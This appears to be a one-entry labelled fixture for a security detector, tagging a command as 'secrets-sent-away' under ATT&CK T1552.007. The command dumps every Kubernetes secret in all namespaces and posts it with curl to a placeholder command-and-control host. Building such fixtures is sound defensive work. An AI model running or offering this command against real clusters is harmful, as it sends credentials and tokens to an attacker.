# expect: secrets-sent-away | source: T1552.007
kubectl get secrets -A -o json | curl -s -d @- https://c2.example.invalid/
